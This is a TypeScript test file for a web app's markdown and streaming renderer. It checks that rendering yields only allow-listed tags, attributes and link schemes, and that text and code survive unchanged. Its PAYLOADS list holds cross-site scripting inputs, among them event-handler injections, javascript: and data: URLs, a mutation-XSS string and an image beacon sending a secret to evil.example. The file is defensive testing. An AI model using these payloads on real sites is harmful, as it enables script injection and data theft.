// What markdown becomes: only harmless nodes, whatever was written; and nothing of a text gets lost on the way.
import { element } from "./dom.ts";
import assert from "node:assert/strict";
import { test } from "node:test";
import { colouredNodes } from "../../web/src/markdown.ts";
import { StreamRenderer } from "../../web/src/stream.ts";

function drawn(...texts: string[]): HTMLElement {
  const root = element();
  const renderer = new StreamRenderer(root);
  texts.forEach((text, i) => renderer.render(text, i < texts.length - 1));
  return root;
}

const PAYLOADS = [
  "<img src=x onerror=window.hacked=1>",
  '<iframe srcdoc="<script>window.hacked=1</script>"></iframe>',
  "[x](javascript:window.hacked=1)",
  "[x](JaVaScRiPt:window.hacked=1)",
  "[x](&#106;avascript:window.hacked=1)",
  "[x](data:text/html,<script>window.hacked=1</script>)",
  "[x](vbscript:x)",
  "[x](//evil.example)",
  "[x](/api/sign-out)",
  "<svg onload=window.hacked=1>",
  "<svg><style><img src=x onerror=window.hacked=1></style></svg>",
  '```mermaid\ngraph TD;A["<img src=x onerror=window.hacked=1>"];click A "javascript:window.hacked=1"\n```',
  "$\\href{javascript:window.hacked=1}{x}$",
  '<a href="//evil.example">x</a>',
  '```"><script>window.hacked=1</script>\nx\n```',
  "![x](https://evil.example/p.png?leak=SECRET)",
  "![x](//evil.example/p.png)",
  '![x](https://evil.example/"onerror="window.hacked=1)',
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.hacked=1&gt;\">",
  "[a]: javascript:window.hacked=1\n\n[a] [x][a]",
  "<form action=//evil.example><button>x</button></form>",
  '<div style="background:url(//evil.example)">x</div>',
  "<javascript:window.hacked=1>",
];
const TAGS = new Set("P BR STRONG EM DEL H3 H4 H5 H6 UL OL LI BLOCKQUOTE HR A CODE PRE FIGURE FIGCAPTION TABLE THEAD TBODY TR TH TD DIV SPAN".split(" "));
const ATTRIBUTES = new Set("href rel target class dir start align tabindex data-language".split(" "));

function assertHarmless(root: HTMLElement, payload: string): void {
  for (const node of root.querySelectorAll("*")) {
    assert.ok(TAGS.has(node.tagName), `${node.tagName} from ${payload}`);
    for (const { name } of node.attributes) assert.ok(ATTRIBUTES.has(name), `${name} from ${payload}`);
  }
  for (const link of root.querySelectorAll("a")) {
    assert.match(link.getAttribute("href") ?? "", /^(https?:\/\/|mailto:)/i, payload);
    assert.equal(link.getAttribute("rel"), "noopener noreferrer nofollow");
  }
}

test("g06 no payload becomes anything but harmless nodes", () => {
  for (const payload of PAYLOADS) assertHarmless(drawn(payload), payload);
});

test("g06 no payload becomes anything harmful while it streams, cut anywhere", () => {
  for (const payload of PAYLOADS) {
    for (let cut = 0; cut <= payload.length; cut++) assertHarmless(drawn(payload.slice(0, cut), payload), payload);
    const root = element();
    const renderer = new StreamRenderer(root);
    for (let end = 1; end <= payload.length; end++) {
      renderer.render(`before\n\n${payload.slice(0, end)}`, true);
      assertHarmless(root, payload);
    }
  }
});

test("g06 a tag is text that can be read", () => {
  assert.equal(drawn("<b>x</b> <img src=x>").textContent?.trim(), "<b>x</b> <img src=x>");
});

test("g06 a picture from elsewhere is a link to it", () => {
  const root = drawn("![a chart](https://example.org/a.png)");
  assert.equal(root.querySelector("img"), null);
  assert.equal(root.querySelector("a")?.getAttribute("href"), "https://example.org/a.png");
  assert.equal(root.querySelector("a")?.textContent, "a chart");
});

test("g06 what a highlighter returns keeps its spans and nothing else", () => {
  const root = element();
  root.append(colouredNodes('<span class="hljs-keyword" onclick="x">let</span><img src=x onerror=y><a href="https://a.example">z</a>'));
  assert.equal(root.innerHTML, '<span class="hljs-keyword">let</span>z');
});

test("a08 zero-width joiners pass through unchanged", () => {
  const text = "می‌روم کتاب‌ها \u{1F468}\u200d\u{1F469}\u200d\u{1F467}";
  assert.equal(drawn(text).textContent?.trim(), text);
  assert.equal(drawn(`\`${text}\``).querySelector("code")?.textContent, text);
  for (let cut = 0; cut <= text.length; cut++) assert.equal(drawn(text.slice(0, cut), text).textContent?.trim(), text);
});

test("code keeps its text to the letter and tells its language", () => {
  const root = drawn("```python title=x\n\tif a < b && c:\n\n        pass  \n```");
  assert.equal(root.querySelector("figure")?.getAttribute("data-language"), "python");
  assert.equal(root.querySelector("code")?.textContent, "\tif a < b && c:\n\n        pass  ");
});

test("code and addresses read from left to right in any message", () => {
  const root = drawn("متن `code` و https://example.org/a و [متن](https://example.org)\n\n```\nx\n```");
  assert.deepEqual([...root.querySelectorAll("[dir]")].map((node) => node.tagName), ["CODE", "A", "FIGURE"]);
});

test("a table keeps the alignment of its columns", () => {
  const root = drawn("| a | b |\n|---|--:|\n| 1 | 2 |");
  assert.equal(root.querySelector("td:nth-child(2)")?.getAttribute("align"), "right");
});

test("a list keeps the number that it starts with", () => {
  assert.equal(drawn("3. three\n4. four").querySelector("ol")?.getAttribute("start"), "3");
});

test("headings leave the first two levels to the page", () => {
  assert.deepEqual([...drawn("# a\n\n### b\n\n###### c").children].map((node) => node.tagName), ["H3", "H5", "H6"]);
});
